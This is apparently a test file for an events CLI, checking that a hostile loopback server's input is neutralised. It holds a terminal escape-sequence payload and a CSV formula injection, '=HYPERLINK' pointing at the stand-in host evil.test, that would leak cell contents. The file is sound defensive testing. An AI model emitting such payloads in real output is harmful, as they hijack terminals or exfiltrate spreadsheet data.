import { wireEvent } from "@community/domain/testing";
import { type LoopbackServer, sendJson, startLoopbackServer } from "@community/fixtures/testing";
import { EXIT } from "./exit-codes";
import { run } from "./run";

/** What the CLI writes when a server on loopback sends text made to act on a terminal or a spreadsheet. */
const PAYLOAD = "\u001b]0;pwned\u0007\u001b[2J";
const TERMINAL_CONTROL = /(?!\n)\p{Cc}/u;

let server: LoopbackServer | undefined;
afterEach(async () => {
  await server?.close();
  server = undefined;
});

const page = (items: unknown[]) => ({
  guides: items,
  meta: { pagination: { current_page: 1, per_page: 100, total_pages: 1 } },
});

async function cli(argv: string[]) {
  const out: string[] = [];
  const err: string[] = [];
  const code = await run([...argv, "--token", "tok", "--base-url", server?.url ?? "http://127.0.0.1:9"], {
    stdout: { write: (s: string) => out.push(s) },
    stderr: { write: (s: string) => err.push(s) },
    env: {},
  });
  return { code, stdout: out.join(""), stderr: err.join("") };
}

describe("the CLI against a hostile server", () => {
  it("shows escape sequences of item names in a table instead of sending them to the terminal", async () => {
    server = await startLoopbackServer((_request, response) =>
      sendJson(response, page([wireEvent({ name: `${PAYLOAD}Spring run` })]), 200, { "x-total-count": "1" }),
    );
    const result = await cli(["events"]);
    expect(result.code).toBe(EXIT.ok);
    expect(result.stdout).not.toMatch(TERMINAL_CONTROL);
    expect(result.stdout).toContain("\\u001b]0;pwned\\u0007\\u001b[2JSpring run");
  });

  it("shows escape sequences of a problem's detail in the error line", async () => {
    server = await startLoopbackServer((_request, response) =>
      sendJson(
        response,
        {
          type: "https://x.test/problems/unauthorized",
          title: "Unauthorized",
          status: 401,
          detail: `${PAYLOAD}bad token`,
          instance: "/",
        },
        401,
        { "content-type": "application/problem+json" },
      ),
    );
    const result = await cli(["events"]);
    expect(result.code).toBe(EXIT.unauthorized);
    expect(result.stderr).not.toMatch(TERMINAL_CONTROL);
    expect(result.stderr).toContain("\\u001b]0;pwned\\u0007\\u001b[2Jbad token");
  });

  it("writes formulas into CSV as text, with a leading apostrophe", async () => {
    server = await startLoopbackServer((_request, response) =>
      sendJson(response, page([wireEvent({ name: '=HYPERLINK("http://evil.test/?"&A1,"open")' })]), 200, {
        "x-total-count": "1",
      }),
    );
    const result = await cli(["events", "--format", "csv"]);
    expect(result.code).toBe(EXIT.ok);
    const name = result.stdout.split("\n")[1]?.split(",")[2];
    expect(name).toBe(`"'=HYPERLINK(""http://evil.test/?""&A1`);
  });

  it("exits with the usage code on --per-page 500, before any request", async () => {
    server = await startLoopbackServer((_request, response) => sendJson(response, page([])));
    const result = await cli(["events", "--per-page", "500"]);
    expect(result.code).toBe(EXIT.usage);
    expect(result.stderr).toContain("--per-page must be an integer between 1 and 100");
    expect(server.requests).toEqual([]);
  });

  it("aligns names of wide characters by their display width", async () => {
    const names = ["東京マラソン", "Tokyo run", "😀 party"];
    server = await startLoopbackServer((_request, response) =>
      sendJson(response, page(names.map((name, i) => wireEvent({ id: `ev_${i}`, name }))), 200, {
        "x-total-count": "3",
      }),
    );
    const result = await cli(["events"]);
    const { default: stringWidth } = await import("string-width");
    // Terminal columns before SCHEDULED_AT on each row: the same everywhere when aligned.
    const offsets = result.stdout
      .trimEnd()
      .split("\n")
      .map((line) => stringWidth(line.slice(0, line.search(/SCHEDULED_AT|2026-03-01T18:30:00Z/))));
    expect(offsets).toHaveLength(4);
    expect(new Set(offsets).size).toBe(1);
  });
});
